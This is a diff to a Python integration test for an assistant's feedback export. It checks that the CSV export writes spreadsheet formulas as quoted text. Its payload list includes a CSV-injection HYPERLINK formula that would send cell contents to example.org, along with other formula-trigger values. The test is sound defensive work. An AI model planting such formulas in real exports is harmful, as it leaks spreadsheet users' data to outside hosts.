@@ -1,13 +1,19 @@
-"""Feedback on answers through a real server, stored with the conversation."""
+"""Feedback on answers through a real server, stored with the conversation, and
+exported for the administrators."""
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 from collections.abc import Iterator
 
 import httpx
 import pytest
 
 from assistant.conversations import SqliteConversationStore
+from assistant.security.api_keys import KeyStore
+from assistant.settings import Settings
 from tests.conftest import CORPUS, make_settings
 from tests.test_api import server_env, start_server, stop
 
@@ -15,15 +21,25 @@ pytestmark = pytest.mark.integration
 
 
 @pytest.fixture(scope="module")
-def served(
-    tmp_path_factory: pytest.TempPathFactory,
-) -> Iterator[tuple[str, SqliteConversationStore]]:
+def settings(tmp_path_factory: pytest.TempPathFactory) -> Settings:
+    return make_settings(tmp_path_factory.mktemp("feedback"), CORPUS)
+
+
+@pytest.fixture(scope="module")
+def served(settings: Settings) -> Iterator[tuple[str, SqliteConversationStore]]:
     """A server on a data dir without an index: feedback needs only the conversations."""
-    settings = make_settings(tmp_path_factory.mktemp("feedback"), CORPUS)
     store = SqliteConversationStore(settings.conversations_path)
     process, base = start_server(server_env(settings))
     yield base, store
     stop(process)
+
+
+@pytest.fixture(scope="module")
+def admin(settings: Settings) -> dict[str, str]:
+    """An administrator's headers: the exports need them (the tests that use them send
+    them with the feedback too, so they do not depend on how keyless callers are served)."""
+    _, key = KeyStore(settings.api_keys_path).create("beheerder", "admin")
+    return {"Authorization": f"Bearer {key}"}
 
 
 def _answer(store: SqliteConversationStore) -> tuple[str, str]:
@@ -67,3 +83,37 @@ def test_bad_feedback_gets_a_clear_dutch_error(served, payload: dict, status: in
     base, _ = served
     response = httpx.post(f"{base}/api/feedback", json=payload)
     assert response.status_code == status and words in response.json()["detail"]
+
+
+def _export(base: str, admin: dict[str, str], fmt: str) -> str:
+    response = httpx.get(f"{base}/api/admin/feedback/export", params={"format": fmt}, headers=admin)
+    assert response.status_code == 200, response.text
+    return response.text
+
+
+# what Excel and LibreOffice would run as a formula; comments arrive stripped, so the
+# tab and the carriage return come in the question and answer
+FORMULAS = ['=HYPERLINK("https://example.org/?d="&A1,"Klik")', "+1", "-2", "@SUM(A1:A9)"]
+BLANK_STARTS = ["\tx", "\rx"]
+
+
+def test_the_csv_export_writes_formulas_as_text(served, admin) -> None:
+    base, store = served
+    sent = {}
+    for text in [*FORMULAS, *BLANK_STARTS]:
+        conversation_id = store.create()
+        message_id = store.add_exchange(conversation_id, text, text, text, {})
+        comment = text if text in FORMULAS else None
+        body = {"message_id": message_id, "comment": comment, "rating": "down"}
+        response = httpx.post(f"{base}/api/feedback", json=body, headers=admin)
+        sent[response.json()["feedback_id"]] = text
+    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(_export(base, admin, "csv")))}
+    for feedback_id, text in sent.items():
+        row = rows[feedback_id]
+        assert (row["question"], row["answer"]) == (f"'{text}", f"'{text}")
+        assert row["comment"] == (f"'{text}" if text in FORMULAS else "")
+    lines = [json.loads(line) for line in _export(base, admin, "jsonl").splitlines()]
+    raw = {line["id"]: line for line in lines if line["id"] in sent}
+    assert {i: (line["question"], line["comment"]) for i, line in raw.items()} == {
+        i: (text, text if text in FORMULAS else None) for i, text in sent.items()
+    }
